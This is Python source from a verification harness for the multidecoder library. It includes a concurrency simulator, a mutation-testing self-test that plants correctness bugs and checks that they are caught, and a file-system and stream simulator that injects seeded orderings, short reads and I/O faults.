                for t in list(self._threads):
                    t.join()

    def _seq(f):
        return getattr(f, "_sim_seq", 0)

    def as_completed(fs, timeout=None):
        fs = list(dict.fromkeys(fs))
        cv = threading.Condition()
        finished = []

        def cb(f):
            with cv:
                finished.append(f)
                cv.notify_all()

        already = sorted([f for f in fs if f.done()], key=_seq)
        pending = [f for f in fs if not f.done()]
        for f in pending:
            f.add_done_callback(cb)
        for f in already:
            yield f
        yielded = 0
        while yielded < len(pending):
            with cv:
                while len(finished) <= yielded:
                    if not cv.wait(timeout):
                        raise cfb.TimeoutError(f"{len(pending) - yielded} (of {len(fs)}) futures unfinished")
                f = finished[yielded]
            yielded += 1
            yield f

    def wait(fs, timeout=None, return_when=cfb.ALL_COMPLETED):
        fs = list(dict.fromkeys(fs))
        cv = threading.Condition()

        def cb(f):
            with cv:
                cv.notify_all()

        for f in fs:
            f.add_done_callback(cb)

        def satisfied():
            done = [f for f in fs if f.done()]
            if return_when == cfb.FIRST_COMPLETED:
                return bool(done)
            if return_when == cfb.FIRST_EXCEPTION:
                return any(f.done() and not f.cancelled() and f.exception() is not None for f in fs) or len(done) == len(fs)
            return len(done) == len(fs)

        with cv:
            while not satisfied():
                if not cv.wait(timeout):
                    break
        done = sorted([f for f in fs if f.done()], key=_seq)
        return cfb.DoneAndNotDoneFutures(_DetSet(done), _DetSet([f for f in fs if not f.done()]))

    _orig.update(TPE=cft.ThreadPoolExecutor, as_completed=cfb.as_completed, wait=cfb.wait)
    cft.ThreadPoolExecutor = SimThreadPoolExecutor
    cfb.as_completed = as_completed
    cfb.wait = wait
    concurrent.futures.ThreadPoolExecutor = SimThreadPoolExecutor
    concurrent.futures.as_completed = as_completed
    concurrent.futures.wait = wait

    # ---- import machinery: per-module locks become cooperative --------------
    # A task that waits for another task's import to finish must hand the baton on instead of
    # blocking the process.  (Inert while nobody is pre-empted inside a module body, i.e. always
    # except in ops that set preempt_in_module.)
    import importlib._bootstrap as _ib

    class _ThreadShim:
        allocate_lock = staticmethod(SimLock)
        RLock = staticmethod(threading._RLock)
        get_ident = staticmethod(_thread.get_ident)

    _orig["ib_thread"] = _ib._thread
    _ib._thread = _ThreadShim

    # ---- unsimulated concurrency tripwires --------------------------------
    def start_new_thread(*a, **kw):
        # the harness itself uses the saved original; anything arriving here comes from the code under test
        k.counters["unsimulated_concurrency"] += 1
        return _orig["start_new_thread"](*a, **kw)

    k._real_start_new_thread = _orig["start_new_thread"]
    k.installed = True
