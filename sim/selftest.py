"""Sensitivity gate: planted mutants.  Each mutant is applied to a scratch copy
of /repo/src (outside /repo and /verif, deleted afterwards), the quick check of
its property is run against the copy (VERIF_REPO), and a VIOLATION is expected.

usage: selftest.py [--only NAME[,NAME]] [--scale S] [--jobs N] [--keep-going]
Not registered as a check: it is run by hand and in development.
"""

from __future__ import annotations

import argparse
import os
import shutil
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor

HERE = os.path.dirname(os.path.abspath(__file__))
VERIF = os.path.dirname(HERE)

M = "src/multidecoder/"

# (name, property, [(file, old, new), ...])
MUTANTS = [
    # ---------------- C09
    ("c09-unsorted-keywords", "C09", [(M + "registry.py", "sorted(keywords)", "keywords")]),
    ("c09-unsorted-files", "C09", [(M + "registry.py", "for file_name in sorted(files):", "for file_name in files:"), (M + "registry.py", "        subdirs.sort()\n", "")]),
    ("c09-chr-int-limit-reverted", "C09", [(M + "decoders/chr.py", 'int(match.group(1).lstrip(b"0") or b"0")', "int(match.group(1))")]),
    ("c09-hash-in-sort-key", "C09", [(M + "multidecoder.py", "key=lambda t: (t.start, -t.end),", "key=lambda t: (t.start, -t.end, hash(t.value)),")]),
    ("c09-memoised-find-keywords", "C09", [(M + "keyword.py", "def find_keywords(label: str, keywords: Iterable[bytes], data: bytes) -> list[Node]:\n    lower = data.lower()\n    return [",
        "_CACHE: dict = {}\n\n\ndef find_keywords(label: str, keywords: Iterable[bytes], data: bytes) -> list[Node]:\n    k = (label, data)\n    if k not in _CACHE:\n        _CACHE[k] = _find_keywords(label, keywords, data)\n    return _CACHE[k]\n\n\ndef _find_keywords(label: str, keywords: Iterable[bytes], data: bytes) -> list[Node]:\n    lower = data.lower()\n    return [")]),
    ("c09-memoised-decoder", "C09", [(M + "decoders/network.py", "@decoder\ndef find_urls(data: bytes) -> list[Node]:\n", "_URL_CACHE: dict = {}\n\n\n@decoder\ndef find_urls(data: bytes) -> list[Node]:\n    if data not in _URL_CACHE:\n        _URL_CACHE[data] = _find_urls(data)\n    return _URL_CACHE[data]\n\n\ndef _find_urls(data: bytes) -> list[Node]:\n")]),
    ("c09-memoised-base64", "C09", [(M + "decoders/base64.py", "@decoder\ndef find_base64(data: bytes) -> list[Node]:\n", "_B64_CACHE: dict = {}\n\n\n@decoder\ndef find_base64(data: bytes) -> list[Node]:\n    if data not in _B64_CACHE:\n        _B64_CACHE[data] = _find_base64(data)\n    return _B64_CACHE[data]\n\n\ndef _find_base64(data: bytes) -> list[Node]:\n")]),
    ("c09-loop-state-on-self", "C09", [(M + "multidecoder.py",
        """        stack: list[Node] = []
        decode_end = 0  # end of the last decoded context
        offset = 0  # start of the current node relative to the start of the original node
""", """        self._stack: list[Node] = []
        self._decode_end = 0
        self._offset = 0
"""), (M + "multidecoder.py", """            if hit.end <= decode_end:
                continue
            # Return to the context that contains the current hit
            while hit.end > offset + len(node.value):
                offset -= node.start
                if stack:  # Todo: Log here
                    node = stack.pop()
            hit.shift(-offset)""", """            if hit.end <= self._decode_end:
                continue
            # Return to the context that contains the current hit
            while hit.end > self._offset + len(node.value):
                self._offset -= node.start
                if self._stack:  # Todo: Log here
                    node = self._stack.pop()
            hit.shift(-self._offset)"""), (M + "multidecoder.py", """                decode_end = hit.end
                self.scan_node(hit, depth_limit - 1)
            else:
                # No need to rescan, set as context
                stack.append(node)
                node = hit
                offset += hit.start

        return stack[0] if stack else node""", """                self._decode_end = hit.end
                saved = (self._stack, self._decode_end, self._offset)
                self.scan_node(hit, depth_limit - 1)
                self._stack, self._decode_end, self._offset = saved
            else:
                # No need to rescan, set as context
                self._stack.append(node)
                node = hit
                self._offset += hit.start

        return self._stack[0] if self._stack else node""")]),
    ("c09-results-scratch-on-self", "C09", [(M + "multidecoder.py", """        results = sorted(
            (hit for search in self.decoders for hit in search(node.value) if hit.value),
            key=lambda t: (t.start, -t.end),
        )

        for hit in results:""", """        self._hits = []
        for search in self.decoders:
            self._hits.extend(hit for hit in search(node.value) if hit.value)
        results = sorted(self._hits, key=lambda t: (t.start, -t.end))

        for hit in results:""")]),
    ("c09-busy-flag-no-finally", "C09", [(M + "multidecoder.py", '''        return self.scan_node(Node("", data, "", 0, len(data)), depth_limit)''', '''        if getattr(self, "_busy", False):
            # re-entrant call (a decoder calling back into the scanner): do not recurse
            return Node("", data, "", 0, len(data))
        self._busy = True
        tree = self.scan_node(Node("", data, "", 0, len(data)), depth_limit)
        self._busy = False
        return tree''')]),
    ("c09-path-keyed-keyword-cache", "C09", [(M + "registry.py", "def get_keywords(directory: str = \"\") -> Registry:\n    \"\"\"Get keyword search functions from a directory\"\"\"\n", "_KEYWORD_CACHE: dict = {}\n\n\ndef get_keywords(directory: str = \"\") -> Registry:\n    \"\"\"Get keyword search functions from a directory\"\"\"\n    key = os.path.realpath(directory) if directory else \"\"\n    if key not in _KEYWORD_CACHE:\n        _KEYWORD_CACHE[key] = tuple(_load_keywords(directory))\n    return list(_KEYWORD_CACHE[key])\n\n\ndef _load_keywords(directory: str = \"\") -> Registry:\n")]),
    # ---------------- C18
    ("c18-exclude-inverted", "C18", [(M + "registry.py", "if exclude and submod_info.name in exclude:", "if exclude and submod_info.name not in exclude:")]),
    ("c18-include-only-without-exclude", "C18", [(M + "registry.py", "if include and submod_info.name not in include:", "if include and not exclude and submod_info.name not in include:")]),
    ("c18-listdir-not-walk", "C18", [(M + "registry.py", "    for subdir, subdirs, files in os.walk(directory):\n        # Neither the file system's enumeration order nor set iteration order may leak into the results\n        subdirs.sort()\n",
        "    for subdir, files in [(directory, [f for f in os.listdir(directory) if os.path.isfile(os.path.join(directory, f))])]:\n")]),
    ("c18-break-on-empty-file", "C18", [(M + "registry.py", "            if not keywords:\n                continue", "            if not keywords:\n                break")]),
    ("c18-split-lf-only", "C18", [(M + "registry.py", "keyword_file.read().splitlines()", 'keyword_file.read().split(b"\\n")')]),
    ("c18-label-relative-path", "C18", [(M + "registry.py", "partial(find_keywords, file_name, sorted(keywords))", "partial(find_keywords, os.path.relpath(os.path.join(subdir, file_name), directory), sorted(keywords))")]),
    ("c18-decorator-dropped", "C18", [(M + "decoders/network.py", "@decoder\ndef find_urls(", "def find_urls(")]),
    ("c18-read-4096", "C18", [(M + "registry.py", "keyword_file.read().splitlines()", "keyword_file.read(4096).splitlines()")]),
    ("c18-read1", "C18", [(M + "registry.py", "keyword_file.read().splitlines()", "keyword_file.read1().splitlines()")]),
    ("c18-module-cache-ignores-directory", "C18", [(M + "registry.py", '    directory = directory or os.path.join(next(iter(multidecoder.__path__)), "keywords")\n    keyword_map: Registry = []\n',
        '    directory = directory or os.path.join(next(iter(multidecoder.__path__)), "keywords")\n    if _KW_CACHE:\n        return list(_KW_CACHE)\n    keyword_map: Registry = _KW_CACHE\n'),
        (M + "registry.py", "def get_keywords(", "_KW_CACHE: list = []\n\n\ndef get_keywords(")]),
    ("c18-dedupe-by-basename", "C18", [(M + "registry.py", "    keyword_map: Registry = []\n    for subdir", "    keyword_map: Registry = []\n    seen = set()\n    for subdir"),
        (M + "registry.py", "            if not keywords:\n                continue\n", "            if not keywords or file_name in seen:\n                continue\n            seen.add(file_name)\n")]),
    # ---------------- C20
    ("c20-stdin-read1", "C20", [(M + "__main__.py", "data = sys.stdin.buffer.read()", "data = sys.stdin.buffer.read1()")]),
    ("c20-stdin-text-roundtrip", "C20", [(M + "__main__.py", "data = sys.stdin.buffer.read()", 'data = sys.stdin.read().encode("utf-8", "surrogateescape")')]),
    ("c20-os-write-no-loop", "C20", [(M + "__main__.py", "sys.stdout.buffer.write(squash_replace(data, tree.children))", "sys.stdout.buffer.raw.write(squash_replace(data, tree.children))")]),
    ("c20-json-of-children", "C20", [(M + "__main__.py", "print(tree_to_json(tree))", "print(tree_to_json(tree.children))")]),
    ("c20-cli-depth-5", "C20", [(M + "__main__.py", "tree = md.scan(data)", "tree = md.scan(data, 5)")]),
    ("c20-label-not-reversed", "C20", [(M + "query.py", 'return "/".join(label_list[::-1])', 'return "/".join(label_list)')]),
    ("c20-value-latin1", "C20", [(M + "json_conversion.py", '"value": node.value.hex(),', '"value": node.value.decode("latin-1"),'), (M + "json_conversion.py", 'value=bytes.fromhex(d["value"]),', 'value=d["value"].encode("latin-1"),')]),
    ("c20-eq-ignores-obfuscation", "C20", [(M + "node.py", "            and self.obfuscation == other.obfuscation\n", "")]),
    ("c20-eq-ignores-end", "C20", [(M + "node.py", "            and self.end == other.end\n", "")]),
    ("c20-read-error-swallowed", "C20", [(M + "__main__.py", "        data = sys.stdin.buffer.read()", "        try:\n            data = sys.stdin.buffer.read()\n        except Exception:\n            data = b\"\"")]),
    ("c20-json-fix-reverted", "C20", [(M + "json_conversion.py", "return as_node(json.loads(serialized, **kargs))", "return json.loads(serialized, default=as_node, **kargs)")]),
    ("c20-parent-not-restored", "C20", [(M + "json_conversion.py", "node.children = [as_node(child, node) for child in d[\"children\"]]", "node.children = [as_node(child) for child in d[\"children\"]]")]),
    ("c20-replace-via-text-layer", "C20", [(M + "__main__.py", "        sys.stdout.buffer.write(squash_replace(data, tree.children))", "        print(squash_replace(data, tree.children).decode(\"latin-1\"), end=\"\")")]),
    ("c20-mixed-text-and-binary-layer", "C20", [(M + "__main__.py", "        for string in string_summary(tree):\n            print(string)", "        for i, string in enumerate(string_summary(tree)):\n            if i == 0:\n                print(string)\n            else:\n                sys.stdout.buffer.write((string + \"\\n\").encode())")]),
]


# Changes under which the property still HOLDS: every check must stay silent (exit 0).
BENIGN = [
    ("benign-fd-level-reader", "C20", [(M + "__main__.py", "        data = sys.stdin.buffer.read()", "        chunks = []\n        while True:\n            chunk = os.read(0, 65536)\n            if not chunk:\n                break\n            chunks.append(chunk)\n        data = b\"\".join(chunks)")]),
    ("benign-fd-level-writer", "C20", [(M + "__main__.py", "        sys.stdout.buffer.write(squash_replace(data, tree.children))", "        out = memoryview(squash_replace(data, tree.children))\n        sys.stdout.flush()\n        with open(sys.stdout.fileno(), \"wb\", buffering=0, closefd=False) as raw:\n            while out:\n                out = out[raw.write(out):]")]),
    ("benign-json-indent", "C20", [(M + "__main__.py", "print(tree_to_json(tree))", "print(tree_to_json(tree, indent=1))")]),
    ("benign-replace-via-flatten", "C20", [(M + "__main__.py", "sys.stdout.buffer.write(squash_replace(data, tree.children))", "sys.stdout.buffer.write(tree.flatten())")]),
    ("benign-threadpool-ordered", "C09", [(M + "multidecoder.py", "from multidecoder.node import Node\n", "from concurrent.futures import ThreadPoolExecutor\n\nfrom multidecoder.node import Node\n"),
        (M + "multidecoder.py", """        results = sorted(
            (hit for search in self.decoders for hit in search(node.value) if hit.value),
            key=lambda t: (t.start, -t.end),
        )""", """        with ThreadPoolExecutor(max_workers=4) as pool:
            futures = [pool.submit(search, node.value) for search in self.decoders]
            results = sorted(
                (hit for future in futures for hit in future.result() if hit.value),
                key=lambda t: (t.start, -t.end),
            )""")]),
    ("benign-scan-lock", "C09", [(M + "multidecoder.py", "from multidecoder.node import Node\n", "import threading\n\nfrom multidecoder.node import Node\n"),
        (M + "multidecoder.py", "        self.decoders = decoders if decoders else build_registry()\n", "        self.decoders = decoders if decoders else build_registry()\n        self._lock = threading.RLock()\n"),
        (M + "multidecoder.py", '''        return self.scan_node(Node("", data, "", 0, len(data)), depth_limit)''', '''        with self._lock:
            return self.scan_node(Node("", data, "", 0, len(data)), depth_limit)''')]),
    ("benign-keyword-cache-copied-c18", "C18", [(M + "registry.py", "def get_keywords(directory: str = \"\") -> Registry:\n    \"\"\"Get keyword search functions from a directory\"\"\"\n", "_KEYWORD_CACHE: dict = {}\n\n\ndef get_keywords(directory: str = \"\") -> Registry:\n    \"\"\"Get keyword search functions from a directory\"\"\"\n    key = os.path.realpath(directory) if directory else \"\"\n    if key not in _KEYWORD_CACHE:\n        _KEYWORD_CACHE[key] = tuple(_load_keywords(directory))\n    return list(_KEYWORD_CACHE[key])\n\n\ndef _load_keywords(directory: str = \"\") -> Registry:\n")]),
    ("benign-new-decoder", "C18", [(M + "decoders/reverse.py", "@decoder\ndef find_reverse(", "@decoder\ndef find_nothing(data: bytes) -> list[Node]:\n    \"\"\"A new decoder that never matches\"\"\"\n    return []\n\n\n@decoder\ndef find_reverse(")]),
    ("benign-decoders-sorted-by-name", "C18", [(M + "registry.py", "    return decoders\n", "    return sorted(decoders, key=lambda f: (f.__module__, f.__name__))\n")]),
]


def apply_mutant(root, edits):
    for rel, old, new in edits:
        p = os.path.join(root, rel)
        with open(p) as fh:
            s = fh.read()
        if old not in s:
            raise RuntimeError(f"mutant text not found in {rel}: {old[:60]!r}")
        with open(p, "w") as fh:
            fh.write(s.replace(old, new, 1))


def run_one(m, scale, jobs, tmp, seed):
    name, prop, edits = m
    benign = name.startswith("benign-")
    root = tempfile.mkdtemp(prefix=f"mdsim-mut-{name}-", dir=tmp)
    t0 = time.time()
    try:
        shutil.copytree("/repo/src", os.path.join(root, "src"), ignore=shutil.ignore_patterns("__pycache__", "*.egg-info"))
        apply_mutant(root, edits)
        # the mutant must still import
        r = subprocess.run(["/venv/bin/python", "-c", "import sys; sys.path.insert(0, sys.argv[1]); import multidecoder.__main__, multidecoder.multidecoder; multidecoder.multidecoder.Multidecoder().scan(b'http://a.example.com strlen')", os.path.join(root, "src")],
                           capture_output=True, text=True)
        if r.returncode != 0:
            return name, prop, "BROKEN-MUTANT", r.stderr[-400:], time.time() - t0
        env = dict(os.environ, VERIF_REPO=root, VERIF_SCALE=str(scale), VERIF_JOBS=str(jobs), VERIF_SEED=str(seed), VERIF_NO_EVIDENCE="1",
                   VERIF_REPLAY_DIR=os.path.join(root, "replays"))
        try:
            p = subprocess.run([os.path.join(VERIF, "check"), prop, "--tier", "quick"], capture_output=True, text=True, env=env, timeout=4 * 3600)
        except subprocess.TimeoutExpired:
            return name, prop, "TIMEOUT", "the check did not finish within 4 h", time.time() - t0
        viol = [ln for ln in p.stdout.splitlines() if ln.startswith("VIOLATION")]
        detail = [ln for ln in p.stdout.splitlines() if ln.startswith("violation:")]
        if benign:
            status = "SILENT" if (p.returncode == 0 and not viol) else f"FALSE-ALARM(exit={p.returncode})"
        else:
            status = "CAUGHT" if (p.returncode == 1 and viol) else f"MISSED(exit={p.returncode})"
        return name, prop, status, (detail[0][:300] if detail else p.stdout[-400:]), time.time() - t0
    finally:
        shutil.rmtree(root, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--only")
    ap.add_argument("--scale", type=float, default=1.0)
    ap.add_argument("--jobs", type=int, default=8)
    ap.add_argument("--parallel", type=int, default=2)
    ap.add_argument("--seed", type=int, default=20261003)
    a = ap.parse_args()
    todo = [m for m in MUTANTS + BENIGN if not a.only or any(m[0].startswith(x) or m[1] == x for x in a.only.split(","))]
    tmp = os.environ.get("VERIF_TMP", "/tmp")
    missed = 0
    with ThreadPoolExecutor(a.parallel) as ex:
        for name, prop, status, detail, dt in ex.map(lambda m: run_one(m, a.scale, a.jobs, tmp, a.seed), todo):
            print(f"{status:14s} {prop} {name:40s} {dt:6.1f}s  {detail}")
            sys.stdout.flush()
            if status not in ("CAUGHT", "SILENT"):
                missed += 1
    print(f"{len(todo) - missed}/{len(todo)} as expected (mutants caught, benign changes silent)")
    sys.exit(1 if missed else 0)


if __name__ == "__main__":
    main()
