"""File-system and stream seams.

* EnumPermuter   : os.scandir / os.listdir return entries in a seeded order.
* SimRawReader   : raw layer delivering seeded short reads, EINTR, error faults.
* SimRawWriter   : raw layer accepting seeded short writes, EINTR, error faults,
                   producer crash.
* open wrapper   : builtins.open(path, 'rb') on registered roots goes through
                   BufferedReader(SimRawReader(FileIO)).
* materialise    : write a generated keyword layout as real files.

Everything random is drawn from random.Random instances seeded from the
scenario; nothing here reads a clock or id().
"""

from __future__ import annotations

import array  # noqa: F401 - imported here so that helper threads never import while the simulation runs
import builtins
import errno
import fcntl  # noqa: F401
import select  # noqa: F401
import termios  # noqa: F401
import hashlib
import io
import os
import random

_real_scandir = os.scandir
_real_listdir = os.listdir
_real_open = builtins.open
_real_os_write = os.write
_real_fdopen = os.fdopen


def _h(*parts) -> int:
    m = hashlib.sha256()
    for p in parts:
        m.update(repr(p).encode())
        m.update(b"\0")
    return int.from_bytes(m.digest()[:8], "big")


class SimCrash(BaseException):
    """The simulated process is killed at this instant."""


# --------------------------------------------------------------------------


class _PermutedScandir:
    def __init__(self, entries):
        self._entries = entries
        self._i = 0

    def __iter__(self):
        return self

    def __next__(self):
        if self._i >= len(self._entries):
            raise StopIteration
        e = self._entries[self._i]
        self._i += 1
        return e

    def __enter__(self):
        return self

    def __exit__(self, *a):
        self.close()
        return False

    def close(self):
        self._i = len(self._entries)


class FsSim:
    """Owns enumeration order and raw reads for the registered roots."""

    def __init__(self):
        self.roots = {}  # real path prefix -> symbolic name
        self.enum_seed = 0
        self.io_seed = 0
        self.io_knobs = {}
        self._enum_calls = {}
        self._open_calls = {}
        self.counters = {
            "enum_calls": 0,
            "enum_permuted": 0,
            "enum_orders": set(),
            "file_opens": 0,
            "short_reads": 0,
            "raw_reads": 0,
            "eintr_reads": 0,
        }
        self.installed = False
        self.proc = None  # the simulated process currently running, if any (procsim sets it)

    # -- configuration ------------------------------------------------------
    def add_root(self, real, name):
        self.roots[os.path.realpath(real)] = name

    def configure(self, enum_seed=None, io_seed=None, io_knobs=None):
        if enum_seed is not None:
            self.enum_seed = enum_seed
        if io_seed is not None:
            self.io_seed = io_seed
        if io_knobs is not None:
            self.io_knobs = io_knobs
        self.reset_epoch()

    def reset_epoch(self):
        """Forget per-path call counters: the next enumeration/open of a path
        draws exactly what the first one drew."""
        self._enum_calls = {}
        self._open_calls = {}

    def _sym(self, path):
        try:
            rp = os.path.realpath(os.fspath(path))
        except TypeError:
            return None
        if isinstance(rp, bytes):
            rp = os.fsdecode(rp)
        for root, name in self.roots.items():
            if rp == root:
                return name
            if rp.startswith(root + os.sep):
                return name + rp[len(root) :]
        return None

    # -- enumeration --------------------------------------------------------
    def _order(self, sym, names):
        """Return a permutation (list of indices into sorted names)."""
        k = self._enum_calls.get(sym, 0)
        self._enum_calls[sym] = k + 1
        idx = list(range(len(names)))
        self.counters["enum_calls"] += 1
        if self.enum_seed:
            random.Random(_h("enum", self.enum_seed, sym, k)).shuffle(idx)
            if idx != sorted(idx):
                self.counters["enum_permuted"] += 1
        self.counters["enum_orders"].add(_h(sym, tuple(idx)))
        return idx

    def scandir(self, path="."):
        sym = self._sym(path)
        if sym is None:
            return _real_scandir(path)
        with _real_scandir(path) as it:
            entries = sorted(it, key=lambda e: os.fsencode(e.name))
        idx = self._order(sym, [e.name for e in entries])
        return _PermutedScandir([entries[i] for i in idx])

    def listdir(self, path="."):
        sym = self._sym(path)
        if sym is None:
            return _real_listdir(path)
        names = sorted(_real_listdir(path), key=os.fsencode)
        idx = self._order(sym, names)
        return [names[i] for i in idx]

    # -- open ---------------------------------------------------------------
    def open(self, file, mode="r", buffering=-1, *args, **kwargs):
        if isinstance(file, int) and not isinstance(file, bool) and self.proc is not None:
            f = self.proc.open_fd(file, mode, buffering, *args, **kwargs)
            if f is not None:
                return f
        if (
            isinstance(file, (str, bytes, os.PathLike))
            and mode in ("rb", "br")
            and not args
            and not {k: v for k, v in kwargs.items() if v is not None}
        ):
            sym = self._sym(file)
            if sym is not None and os.path.isfile(file):
                k = self._open_calls.get(sym, 0)
                self._open_calls[sym] = k + 1
                rng = random.Random(_h("open", self.io_seed, sym, k))
                self.counters["file_opens"] += 1
                fault = None
                ff = self.io_knobs.get("file_fault")
                if ff and sym.endswith(ff.get("suffix", "input.bin")):
                    fault = ff
                raw = SimRawReader(io.FileIO(file, "r"), rng, self.io_knobs, self.counters, name=file, fault=fault)
                if buffering == 0:
                    return raw
                bs = buffering if buffering and buffering > 0 else _pick_bufsize(rng, self.io_knobs)
                return io.BufferedReader(raw, buffer_size=bs)
        return _real_open(file, mode, buffering, *args, **kwargs)

    # -- install ------------------------------------------------------------
    def install(self):
        if self.installed:
            return
        os.scandir = self.scandir
        os.listdir = self.listdir
        builtins.open = self.open
        io.open = self.open
        self.installed = True

    def uninstall(self):
        os.scandir = _real_scandir
        os.listdir = _real_listdir
        builtins.open = _real_open
        io.open = _real_open
        self.installed = False

    def counters_json(self):
        c = dict(self.counters)
        c["enum_orders"] = len(c["enum_orders"])
        return c


def _pick_bufsize(rng, knobs):
    choices = knobs.get("bufsizes") or [1, 2, 3, 7, 16, 64, 512, 4096, 8192, 65536]
    return rng.choice(choices)


def _pick_chunk(rng, knobs, n):
    """How many of the n requested bytes the raw layer moves this time."""
    mode = knobs.get("chunk", "mixed")
    if mode == "full" or n <= 1:
        return n
    if mode == "one":
        return 1
    if isinstance(mode, int):
        return max(1, min(n, mode))
    r = rng.random()
    if r < 0.35:
        return n
    if r < 0.55:
        return 1
    if r < 0.8:
        return rng.randint(1, min(n, 16))
    return rng.randint(1, n)


class SimRawReader(io.RawIOBase):
    """Raw reader over bytes or a FileIO with short reads and faults.

    fault: {"kind": "eio", "at": k}  -> OSError(EIO) on the k-th raw read
    """

    def __init__(self, src, rng, knobs, counters, name="<sim>", fault=None):
        super().__init__()
        if isinstance(src, (bytes, bytearray)):
            src = io.BytesIO(bytes(src))
        self._src = src
        self._rng = rng
        self._knobs = knobs or {}
        self._c = counters
        self.name = name
        self._fault = fault
        self._n = 0
        self.mode = "rb"

    def readable(self):
        return True

    def fileno(self):
        # a descriptor-level reader sees the same bytes (regular files do not short-read)
        fn = getattr(self._src, "fileno", None)
        if fn is None:
            raise io.UnsupportedOperation("fileno")
        try:
            return fn()
        except io.UnsupportedOperation:
            raise
        except Exception as e:  # noqa: BLE001
            raise io.UnsupportedOperation("fileno") from e

    def isatty(self):
        return False

    def readinto(self, b):
        self._n += 1
        self._c["raw_reads"] = self._c.get("raw_reads", 0) + 1
        if self._fault and self._fault.get("kind") == "eio" and self._n == self._fault.get("at"):
            self._c["fault_fired"] = self._c.get("fault_fired", 0) + 1
            raise OSError(errno.EIO, "Input/output error (simulated)")
        eintr = self._knobs.get("eintr", 0.0)
        if eintr and self._rng.random() < eintr:
            self._c["eintr_reads"] = self._c.get("eintr_reads", 0) + 1
            raise InterruptedError(errno.EINTR, "Interrupted system call (simulated)")
        n = len(b)
        if n == 0:
            return 0
        k = _pick_chunk(self._rng, self._knobs, n)
        data = self._src.read(k)
        if data and len(data) < n:
            self._c["short_reads"] = self._c.get("short_reads", 0) + 1
        b[: len(data)] = data
        return len(data)

    def close(self):
        if not self.closed:
            try:
                self._src.close()
            finally:
                super().close()


class SimRawWriter(io.RawIOBase):
    """Raw writer with short writes and faults.

    fault: {"kind": "enospc"|"epipe", "at": k}  error on the k-th raw write
           {"kind": "crash", "at": k}            process dies at the k-th raw write
                                                 (a seeded prefix of it may get out)
    """

    def __init__(self, rng, knobs, counters, name="<stdout>", fault=None, fd=None, fd_path=None):
        """fd / fd_path: the real descriptor this stream stands for and the
        scratch file behind it.  Bytes written to the descriptor directly
        (os.write(fd), sys.stdout.fileno()) are merged into `data` in the order
        a real process would emit them: before anything still buffered above."""
        super().__init__()
        self._rng = rng
        self._knobs = knobs or {}
        self._c = counters
        self.name = name
        self._fault = fault
        self._n = 0
        self.data = bytearray()
        self.mode = "wb"
        self.dead = False
        self._fd = fd
        self._fd_path = fd_path
        self._fd_pos = os.path.getsize(fd_path) if fd_path and os.path.exists(fd_path) else 0

    def writable(self):
        return True

    def drain_fd(self):
        if not self._fd_path:
            return
        try:
            size = os.path.getsize(self._fd_path)
            if size > self._fd_pos:
                with _real_open(self._fd_path, "rb") as fh:
                    fh.seek(self._fd_pos)
                    extra = fh.read(size - self._fd_pos)
                self._fd_pos = size
                self.data += extra
                self._c["direct_fd_bytes"] = self._c.get("direct_fd_bytes", 0) + len(extra)
        except OSError:
            pass

    def fileno(self):
        if self._fd is None:
            raise io.UnsupportedOperation("fileno")
        return self._fd

    def isatty(self):
        return False

    def write(self, b):
        if self.dead:
            return len(memoryview(b).cast("B"))
        self.drain_fd()
        self._n += 1
        self._c["raw_writes"] = self._c.get("raw_writes", 0) + 1
        mv = memoryview(b).cast("B")
        n = len(mv)
        f = self._fault
        if f and self._n == f.get("at"):
            self._c["fault_fired"] = self._c.get("fault_fired", 0) + 1
            kind = f["kind"]
            if kind == "enospc":
                raise OSError(errno.ENOSPC, "No space left on device (simulated)")
            if kind == "epipe":
                raise BrokenPipeError(errno.EPIPE, "Broken pipe (simulated)")
            if kind == "crash":
                k = self._rng.randint(0, n)
                self.data += mv[:k]
                raise SimCrash()
        if f and f.get("kind") in ("enospc", "epipe") and self._n > f.get("at"):
            # the device stays full / the pipe stays broken
            if f["kind"] == "enospc":
                raise OSError(errno.ENOSPC, "No space left on device (simulated)")
            raise BrokenPipeError(errno.EPIPE, "Broken pipe (simulated)")
        eintr = self._knobs.get("eintr", 0.0)
        if eintr and self._rng.random() < eintr:
            self._c["eintr_writes"] = self._c.get("eintr_writes", 0) + 1
            raise InterruptedError(errno.EINTR, "Interrupted system call (simulated)")
        if n == 0:
            return 0
        k = _pick_chunk(self._rng, self._knobs, n)
        if k < n:
            self._c["short_writes"] = self._c.get("short_writes", 0) + 1
        self.data += mv[:k]
        return k


# --------------------------------------------------------------------------


def materialise(layout, root):
    """Create the layout's directories and files under root (real files)."""
    os.makedirs(root, exist_ok=True)
    for d in layout.get("dirs", []):
        os.makedirs(os.path.join(root, *d.split("/")), exist_ok=True)
    for f in layout["files"]:
        parts = f["path"].split("/")
        if len(parts) > 1:
            os.makedirs(os.path.join(root, *parts[:-1]), exist_ok=True)
        path = os.path.join(root, *parts)
        with _real_open(path, "wb") as fh:
            fh.write(bytes.fromhex(f["content"]))
        # timestamps carry no information: every generated file has the same one
        os.utime(path, (1_600_000_000, 1_600_000_000))


class FdRawReader(io.RawIOBase):
    """Raw reader over a real descriptor (the simulated process's fd 0, a pipe
    fed chunk by chunk by PipeFeeder).  Short reads are real - they are what the
    feeder's chunking produces - and EINTR / EIO are injected on top."""

    def __init__(self, fd, rng, knobs, counters, name="<stdin>", fault=None):
        super().__init__()
        self._fd = fd
        self._rng = rng
        self._knobs = knobs or {}
        self._c = counters
        self.name = name
        self._fault = fault
        self._n = 0
        self.mode = "rb"

    def readable(self):
        return True

    def fileno(self):
        return self._fd

    def isatty(self):
        return False

    def readinto(self, b):
        self._n += 1
        self._c["raw_reads"] = self._c.get("raw_reads", 0) + 1
        if self._fault and self._fault.get("kind") == "eio" and self._n == self._fault.get("at"):
            self._c["fault_fired"] = self._c.get("fault_fired", 0) + 1
            raise OSError(errno.EIO, "Input/output error (simulated)")
        eintr = self._knobs.get("eintr", 0.0)
        if eintr and self._rng.random() < eintr:
            self._c["eintr_reads"] = self._c.get("eintr_reads", 0) + 1
            raise InterruptedError(errno.EINTR, "Interrupted system call (simulated)")
        n = len(b)
        if n == 0:
            return 0
        data = os.read(self._fd, n)
        if data and len(data) < n:
            self._c["short_reads"] = self._c.get("short_reads", 0) + 1
        b[: len(data)] = data
        return len(data)


class PipeFeeder:
    """Feeds `data` into a pipe one planned chunk at a time: the next chunk is
    written only when the pipe is empty, so every read of the other end sees at
    most one chunk, whatever the real timing.  The chunk plan is drawn up front
    from the seeded rng."""

    def __init__(self, data, rng, knobs, counters):
        self.data = bytes(data)
